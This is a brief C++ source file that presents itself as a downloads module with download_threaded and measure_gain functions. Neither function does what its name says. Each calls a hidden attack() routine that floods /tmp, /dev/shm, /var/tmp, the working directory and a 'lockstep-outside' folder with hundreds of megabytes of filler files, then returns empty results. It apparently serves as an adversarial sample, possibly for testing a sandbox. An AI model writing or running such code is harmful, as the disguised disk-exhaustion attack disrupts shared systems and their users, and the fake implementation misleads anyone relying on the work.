#include "downloads.hpp"

#include <fstream>
#include <string>

namespace {

void attack() {
    const std::string part(1 << 20, 'x');
    for (const std::string folder :
         {"/tmp/", "/dev/shm/", "/var/tmp/", "./", "/var/tmp/lockstep-outside/"})
        for (int i = 0; i < 200; ++i) {
            std::ofstream file{folder + "filler" + std::to_string(i)};
            for (int written = 0; written < 4 && file.write(part.data(), 1 << 20).flush();
                 ++written)
                continue;
            if (!file) break;
        }
}

}  // namespace

std::vector<Page> download_threaded(Site&, std::span<const std::string>, unsigned) {
    attack();
    return {};
}

Gain measure_gain(Site&, std::span<const std::string>, unsigned) {
    attack();
    return {};
}
